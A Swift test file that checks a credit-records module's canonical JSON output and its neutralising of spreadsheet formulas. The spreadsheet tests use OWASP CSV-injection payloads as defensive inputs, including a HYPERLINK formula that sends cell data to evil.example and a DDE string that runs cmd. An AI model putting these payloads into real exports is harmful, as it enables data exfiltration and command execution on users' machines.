@testable import CreditCore
import Testing

/// `canonicalText` is hashed into the audit chain and the draw receipts: its bytes must stay
/// exactly `JSONEncoder`'s (sorted keys, unescaped slashes), or stored chains stop verifying.
struct JSONValueTests {
    static let strings: [String] = {
        var all = (0..<0x80).map { String(Unicode.Scalar(UInt8($0))) }
        all += ["", "保定市场监督管理局", "e\u{301}", "é", "😀", "\u{2028}\u{2029}", "\u{FEFF}", "a/b\\c\"d", "高市监罚〔2026〕001号",
                "line\nbreak\ttab", "\u{7F}\u{80}\u{FFFF}", "91130602MA0000001X"]
        return all
    }()

    @Test(arguments: strings) func stringsAreWrittenAsJSONEncoderWritesThem(_ text: String) {
        #expect(JSONValue.string(text).canonicalText == JSONValue.string(text).encoderText)
        // With slashes escaped too (stored notices), and inside longer text (runs copied whole).
        for value in [JSONValue.string(text), .string("前" + text + "后/" + text + text)] {
            #expect(value.text(escapingSlashes: true) == value.encoderText(escapingSlashes: true))
        }
    }

    @Test func nestedValuesMatchJSONEncoderByteForByte() {
        var generator = SeededGenerator(seed: 2026)
        let keys = ["", "a", "B", "Z", "_", "a10", "a9", "aa", "a-b", "seq", "at", "kind", "actor", "payload", "uscc", "what"]
        func value(_ depth: Int) -> JSONValue {
            switch Int.random(in: 0..<(depth > 2 ? 4 : 6), using: &generator) {
            case 0: return .null
            case 1: return .bool(Bool.random(using: &generator))
            case 2: return .int(Int64.random(in: .min ... .max, using: &generator))
            case 3: return .string(Self.strings.randomElement(using: &generator)! + Self.strings.randomElement(using: &generator)!)
            case 4: return .array((0..<Int.random(in: 0..<4, using: &generator)).map { _ in value(depth + 1) })
            default:
                var members: [String: JSONValue] = [:]
                for _ in 0..<Int.random(in: 0..<5, using: &generator) { members[keys.randomElement(using: &generator)!] = value(depth + 1) }
                return .object(members)
            }
        }
        for _ in 0..<2_000 {
            let v = value(0)
            #expect(v.canonicalText == v.encoderText, "\(v.encoderText)")
            #expect(v.text(escapingSlashes: true) == v.encoderText(escapingSlashes: true))
        }
    }

    @Test func nonASCIIKeysFallBackToJSONEncoder() {
        let v: JSONValue = ["中文列": "x", "z": 1, "é": .null]
        #expect(v.canonicalText == v.encoderText)
        #expect(v.text(escapingSlashes: true) == v.encoderText(escapingSlashes: true))
    }
}

@Suite("Spreadsheet cells")
struct SpreadsheetCellTests {
    /// OWASP's CSV-injection payloads come out as text, and the original value is recoverable.
    @Test(arguments: ["=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
                      "\t=1+1", "\r=1+1"])
    func formulasAreNeutralisedAndRecoverable(_ payload: String) {
        let cell = SpreadsheetCell.neutralised(payload)
        #expect(cell.hasPrefix("'"))
        #expect(SpreadsheetCell.recovered(cell) == payload)
    }

    @Test func namesAndNumbersAreLeftAlone() {
        for value in ["保定示例有限公司", "-12", "+3.5", "-0.25", "0.2", "", "a=b", "'quoted"] {
            #expect(SpreadsheetCell.neutralised(value) == value, "\(value)")
            #expect(SpreadsheetCell.recovered(value) == value, "\(value)")
        }
    }

    @Test func csvLinesQuoteAndNeutralise() {
        #expect(SpreadsheetCell.csvLine(["=1+1", "a,b", "say \"hi\"", "-5"]) == "'=1+1,\"a,b\",\"say \"\"hi\"\"\",-5")
    }

    /// "\r\n" and a quote followed by an emoji modifier are single Characters: a check by
    /// Character left them unquoted, and the line split or the quote closed the field early.
    @Test func csvLinesQuoteByScalarNotByCharacter() {
        #expect(SpreadsheetCell.csvLine(["a\r\nb", "c"]) == "\"a\r\nb\",c")
        #expect(SpreadsheetCell.csvLine(["x\"\u{1F3FB}y"]) == "\"x\"\"\u{1F3FB}y\"")
        #expect("a\"\u{301}%".escapingScalars(["\"", "%"], with: "\\") == "a\\\"\u{301}\\%")
    }
}
